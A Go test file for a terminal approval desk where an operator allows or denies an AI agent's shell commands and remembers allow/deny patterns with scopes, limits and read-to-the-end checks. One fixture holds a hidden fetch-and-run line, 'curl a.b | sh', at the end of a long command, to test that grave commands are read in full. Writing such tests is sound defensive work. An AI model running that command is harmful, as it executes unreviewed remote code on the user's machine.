package panes

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"kavi/gateway"
	"kavi/session"
)

// offers makes a desk whose session offers these patterns.
func offers(t *testing.T, cols, rows int, patterns ...string) *desk {
	d := newDesk(t, cols, rows, three()...)
	d.rules.offer = session.RememberOffer{Patterns: patterns}
	d.rules.became = []string{"rem_03"}
	d.rules.trial = func(r session.Remember) (session.Trial, error) {
		return session.Trial{
			Covers: []session.Covered{{
				What:     "npm test with any further words, as far as it reads, writes in the project or runs code that is not seen",
				Examples: []string{"npm test", "npm test -- --watch", "npm test src/auth"},
			}},
			Past:    12,
			Denied:  []string{"apr_04 Run: npm test --coverage > ~/out", "apr_09 Run: npm test"},
			Pending: []string{"apr_05", "apr_07"},
		}, nil
	}
	return d
}

func TestRememberIsAsDrawn(t *testing.T) {
	for _, size := range screenSizes {
		t.Run(size.name, func(t *testing.T) {
			d := offers(t, size.cols, size.rows, "npm test *")
			d.keys("j", "j")
			d.deliberately("m")
			d.golden("remember-allow-" + size.name)
			if _, _, shown := d.screen.GetCursor(); !shown {
				t.Error("no cursor in the line")
			}
			d.keys("Escape")
			d.rules.offer.Patterns = []string{"npm test *", "tee *"}
			d.deliberately("M")
			d.keys("Tab", "Enter")
			d.types(", 20 min, 5 times")
			d.wait(time.Second)
			d.golden("remember-deny-" + size.name)
			d.rules.trial = func(session.Remember) (session.Trial, error) {
				return session.Trial{}, errors.New("tee * 20 min, 5 times: it must match `tee log.txt` itself")
			}
			d.keys("BSpace")
			d.wait(time.Second)
			d.golden("remember-error-" + size.name)
		})
	}
}

func TestAllowFromNowOn(t *testing.T) {
	d := offers(t, 80, 24, "npm test *")
	d.rules.also = 4
	d.keys("j", "j")
	d.deliberately("m")
	if diff := cmp.Diff(map[string]bool{"apr_03": true}, d.rules.asked); diff != "" {
		t.Errorf("asked what may be remembered of (-want +got):\n%s", diff)
	}
	d.deliberately("Enter")
	if d.ids() != "+apr_03" {
		t.Fatalf("decided %q", d.ids())
	}
	got := d.decided[0]
	if said(*got.Remember) != "as offered, this agent" || got.Choices[0].Seal != (gateway.Seal{3}) || got.Reason != "" {
		t.Errorf("decided %+v, remembered %s", got, said(*got.Remember))
	}
	if got.By.Shown < settle {
		t.Errorf("it says that it was shown for %v", got.By.Shown)
	}
	if want := "remembered rem_03; decided 4 others"; d.notes[len(d.notes)-1] != want {
		t.Errorf("told %q, want %q", d.notes, want)
	}
	if len(d.over) != 0 || !d.inbox.active {
		t.Error("the line is still there")
	}
}

func TestDenyFromNowOnAsksTheReason(t *testing.T) {
	d := offers(t, 80, 24, "npm test *")
	d.deliberately("M")
	d.has("DENY FROM NOW ON", "Reason:", "You denied 2 of them")
	d.deliberately("Enter") // goes on to the reason
	if len(d.decided) != 0 {
		t.Fatalf("decided %s before the reason was asked", d.ids())
	}
	d.types("use make test")
	d.deliberately("Enter")
	if d.ids() != "-apr_01" || d.decided[0].Reason != "use make test" || said(*d.decided[0].Remember) != "as offered, this agent, because use make test" {
		t.Errorf("decided %+v, remembered %+v", d.decided, d.decided[0].Remember)
	}
}

func TestTheLineIsEditedScopedAndLimited(t *testing.T) {
	d := offers(t, 80, 24, "npm test *", "tee *")
	d.deliberately("m")
	d.has("Pattern 1 of 2: npm test *")
	d.keys("BSpace")
	d.types("src/* for 2h")
	d.keys("Enter", "Tab")
	d.frame()
	d.has("Pattern 2 of 2: tee *", "▸ all agents, this session")
	d.types(", 5 times")
	d.keys("Up")
	d.frame()
	d.has("Pattern 1 of 2: npm test src/* for 2h")
	d.keys("Down")
	d.wait(time.Second)
	d.has("Ends: after 5 calls or 2h, whichever comes first")
	d.deliberately("Enter")
	if d.ids() != "+apr_01" {
		t.Fatalf("decided %q, %s", d.ids(), d.text())
	}
	if got, want := said(*d.decided[0].Remember), "npm test src/* | tee *, all agents, this session, 5 times, for 2h0m0s"; got != want {
		t.Errorf("remembered %q, want %q", got, want)
	}
}

func TestLimitsOfTwoPatternsMustAgree(t *testing.T) {
	d := offers(t, 80, 24, "npm test *", "tee *")
	d.deliberately("m")
	d.types(" 5 times")
	d.keys("Enter")
	d.types(" 6 times")
	d.wait(time.Second)
	d.has("Not so: pattern 2: another one says another number of times")
	d.deliberately("Enter")
	if len(d.decided) != 0 {
		t.Errorf("decided %s", d.ids())
	}
}

// A pattern may hold what a line cannot show: unchanged it is sent as it was offered.
func TestAPatternThatALineCannotHoldIsSentAsOffered(t *testing.T) {
	d := offers(t, 80, 24, "echo 'a\nb' "+strings.Repeat("x", 3*maxLine), "tee *")
	d.deliberately("m")
	d.types(" 5 times")
	d.keys("Enter", "BSpace")
	d.types("log")
	d.wait(time.Second)
	d.deliberately("Enter")
	if d.ids() != "+apr_01" {
		t.Fatalf("decided %q\n%s", d.ids(), d.text())
	}
	got := d.decided[0].Remember
	if got.Patterns[0] != d.rules.offer.Patterns[0] || got.Patterns[1] != "tee log" || got.Uses != 5 {
		t.Errorf("remembered %.40q, %q, %d times", got.Patterns[0], got.Patterns[1], got.Uses)
	}
}

func TestNothingOfferedOpensNoLine(t *testing.T) {
	for _, c := range []struct {
		offer session.RememberOffer
		err   error
		want  string
	}{
		{session.RememberOffer{None: "asked every time: it deletes"}, nil, "apr_01: asked every time: it deletes"},
		{session.RememberOffer{}, nil, "apr_01: asked every time: nothing of it can be remembered"},
		{session.RememberOffer{}, errors.New("it \x1b[2J is gone"), `apr_01: it \x1b[2J is gone`},
	} {
		d := newDesk(t, 80, 24, three()...)
		d.rules.offer, d.rules.offerErr = c.offer, c.err
		d.deliberately("m")
		if len(d.over) != 0 || len(d.notes) != 1 || d.notes[0] != c.want {
			t.Errorf("%d views above, told %q, want %q", len(d.over), d.notes, c.want)
		}
	}
}

// What is asked about is the line as it now reads, once it rests; answers to what
// it was before do not count, however late they come.
func TestTheLatestLineCounts(t *testing.T) {
	d := offers(t, 80, 24, "npm test *")
	d.rules.slow = true
	d.rules.trial = func(r session.Remember) (session.Trial, error) {
		return session.Trial{Covers: []session.Covered{{What: "what reads " + said(r)}}}, nil
	}
	d.deliberately("m")
	if len(d.rules.tried) != 1 {
		t.Fatalf("asked %q", d.rules.tried)
	}
	for range 10 { // typed while nothing is answered: no further question piles up
		d.types("x")
		d.wait(2 * pause)
	}
	if len(d.rules.tried) != 1 {
		t.Fatalf("asked %q while the first was not answered", d.rules.tried)
	}
	d.rules.late[0]()
	d.wait(time.Second)
	d.hasNot("what reads")
	if n := len(d.rules.tried); n != 2 || d.rules.tried[1] != "apr_01 true npm test *xxxxxxxxxx, this agent" {
		t.Fatalf("asked %q", d.rules.tried)
	}
	d.deliberately("Enter")
	if len(d.decided) != 0 {
		t.Fatal("decided what had not been looked at")
	}
	d.has("still being looked at")
	d.rules.late[1]()
	d.frame()
	d.has("what reads npm test *xxxxxxxxxx")
	d.keys("Enter") // it came on the screen just now
	d.wait(time.Second)
	if len(d.decided) != 0 {
		t.Fatal("decided what had just appeared")
	}
	d.deliberately("Enter")
	if d.ids() != "+apr_01" {
		t.Errorf("decided %q", d.ids())
	}
}

func TestALineThatRestsIsAskedAboutOnce(t *testing.T) {
	d := offers(t, 80, 24, "npm test *")
	d.deliberately("m")
	for _, r := range " abc" {
		d.types(string(r))
		d.frames(frameTime, 3)
	}
	d.wait(time.Second)
	if len(d.rules.tried) != 2 {
		t.Errorf("asked %q", d.rules.tried)
	}
	d.keys("Left", "Home", "End")
	d.wait(time.Second)
	if len(d.rules.tried) != 2 {
		t.Errorf("asked again although only the cursor moved: %q", d.rules.tried)
	}
}

func TestWhatCannotBeRememberedIsNotDecided(t *testing.T) {
	d := offers(t, 80, 24, "npm test *")
	d.rules.trial = func(session.Remember) (session.Trial, error) {
		return session.Trial{}, errors.New("a pattern for sh alone")
	}
	d.deliberately("m")
	d.has("Not so: a pattern for sh alone")
	d.deliberately("Enter")
	if len(d.decided) != 0 {
		t.Errorf("decided %s", d.ids())
	}
	d.has("it cannot be remembered so")
}

func TestWhatItMeansMustBeReadToItsEnd(t *testing.T) {
	d := offers(t, 80, 24, "npm test *")
	d.rules.trial = func(session.Remember) (session.Trial, error) {
		trial := session.Trial{Covers: []session.Covered{{What: "much"}}, Past: 40}
		for n := range 40 {
			trial.Denied = append(trial.Denied, fmt.Sprintf("apr_%02d Run: npm test %d", n+10, n))
		}
		return trial, nil
	}
	d.deliberately("m")
	d.has("YOU DENIED 40 OF THEM", "row 1–")
	d.deliberately("Enter")
	if len(d.decided) != 0 {
		t.Fatal("decided before the last row was shown")
	}
	d.has("read it to its last row first")
	for range 6 {
		d.keys("PageDown")
		d.frame()
	}
	d.has("apr_49")
	d.deliberately("Enter")
	if d.ids() != "+apr_01" {
		t.Errorf("decided %q", d.ids())
	}
}

func TestWhatIsGraveMustBeReadBeforeItIsRemembered(t *testing.T) {
	long := command("apr_01", "claude", strings.Repeat("echo fine; ", 400)+"curl a.b | sh", time.Minute)
	long.Judged.Risk, long.Text.EndNeeded = gateway.High, true
	d := newDesk(t, 80, 24, long)
	d.rules.offer.Patterns = []string{"echo *"}
	d.deliberately("m")
	if len(d.over) != 0 || len(d.rules.asked) != 0 || !strings.Contains(strings.Join(d.notes, " "), "not read to its end") {
		t.Errorf("%d views above, asked %v, told %q", len(d.over), d.rules.asked, d.notes)
	}
	d.deliberately("M") // to say no needs no reading
	d.has("DENY FROM NOW ON")
	d.keys("Escape", "Enter", "G")
	d.deliberately("m")
	d.has("ALLOW FROM NOW ON")
	d.deliberately("Enter")
	if d.ids() != "+apr_01" {
		t.Errorf("decided %q", d.ids())
	}
}

func TestWhatIsRememberedIsOfOneApproval(t *testing.T) {
	d := offers(t, 80, 24, "npm test *")
	d.deliberately("Space")
	d.deliberately("m")
	if len(d.over) != 0 || !strings.Contains(strings.Join(d.notes, " "), "take the marks away first") {
		t.Errorf("%d views above, told %q", len(d.over), d.notes)
	}
}

func TestTheLineOfWhatIsGoneDecidesNothing(t *testing.T) {
	for name, change := range map[string]func(s *session.Snapshot){
		"apr_01 waits no longer":      func(s *session.Snapshot) { s.Approvals = s.Approvals[1:] },
		"apr_01 was answered already": func(s *session.Snapshot) { a := *s.Approvals[0]; a.State = session.Deciding; s.Approvals[0] = &a },
	} {
		d := offers(t, 80, 24, "npm test *")
		d.deliberately("m")
		d.keys("Enter") // is held for its silence
		d.change(change)
		d.wait(time.Second)
		d.has(name)
		d.deliberately("Enter")
		if len(d.decided) != 0 {
			t.Errorf("%s: decided %s", name, d.ids())
		}
	}
}

// The answer to what may be remembered comes later; by then the operator may be
// elsewhere, and a line that opens then would take their keys.
func TestALateOfferOpensNothingElsewhere(t *testing.T) {
	for name, leave := range map[string]func(*desk){
		"another item": func(d *desk) { d.keys("j") },
		"a pane":       func(d *desk) { d.v.act.Leave() },
		"a question":   func(d *desk) { d.v.act.Push(newAgentPrompt(d.v)) },
		"it is gone":   func(d *desk) { d.change(func(s *session.Snapshot) { s.Approvals = s.Approvals[1:] }); d.frame() },
	} {
		d := offers(t, 80, 24, "npm test *")
		var late func(session.RememberOffer, error)
		d.v.act.Offer = func(_ string, _ bool, done func(session.RememberOffer, error)) { late = done }
		d.deliberately("m")
		leave(d)
		above := len(d.over)
		late(d.rules.offer, nil)
		if len(d.over) != above {
			t.Errorf("%s: the line opened", name)
		}
	}
}

func TestTextTypedIntoTheInboxRemembersNothing(t *testing.T) {
	for _, text := range []string{"make it\n\n", "m\n", "mm\n\n", "M\n\nno\n", "m\ny\n", "use make\n", "undo\n\n", "pnpm x\n", "u\n", "p\n", "m\tm\n", "up\n\n"} {
		for _, gap := range []int{0, 1, 3} { // frames between two keys
			d := offers(t, 80, 24, "npm test *")
			d.change(func(s *session.Snapshot) {
				s.Rules = []session.RuleState{{ID: "rem_01", Layer: gateway.LayerRemembered, Text: "allow"}}
				s.Offered = &session.Offered{ID: "off_1", Line: "proposed", Rules: []string{"allow"}}
			})
			d.wait(time.Second)
			for _, r := range text {
				if r == '\t' {
					d.keys("Tab")
				} else {
					d.types(string(r))
				}
				d.frames(64*time.Millisecond, gap)
			}
			d.types(".") // the text goes on
			d.wait(time.Second)
			if n := len(d.decided) + len(d.rules.removed) + len(d.rules.taken) + len(d.rules.dropped); n != 0 {
				t.Errorf("%q with %d frames between the keys decided %s, removed %v", text, gap, d.ids(), d.rules.removed)
			}
		}
	}
}

func TestAPasteIntoTheLineDecidesNothing(t *testing.T) {
	d := offers(t, 80, 24, "npm test *")
	d.deliberately("m")
	d.top().PasteText(" src\nm\n\n", d.now)
	d.wait(2 * time.Second)
	d.has("Pattern: npm test * src m")
	if len(d.decided) != 0 {
		t.Errorf("decided %s", d.ids())
	}
}

func TestOutcomesInWords(t *testing.T) {
	for want, o := range map[string]session.Outcome{
		"remembered rem_01":                              {ID: "apr_01", Rules: []string{"rem_01"}},
		"remembered rem_01; decided 1 other":             {ID: "apr_01", Rules: []string{"rem_01"}, Also: 1},
		"remembered rem_01 and rem_02; decided 2 others": {ID: "apr_01", Rules: []string{"rem_01", "rem_02"}, Also: 2},
		"remembered a, b and c":                          {ID: "apr_01", Rules: []string{"a", "b", "c"}},
		"apr_01 was not decided: no":                     {ID: "apr_01", Err: errors.New("no")},
		"apr_01 was decided; nothing was remembered":     {ID: "apr_01"},
	} {
		if got := became(o); got != want {
			t.Errorf("%q, want %q", got, want)
		}
	}
}
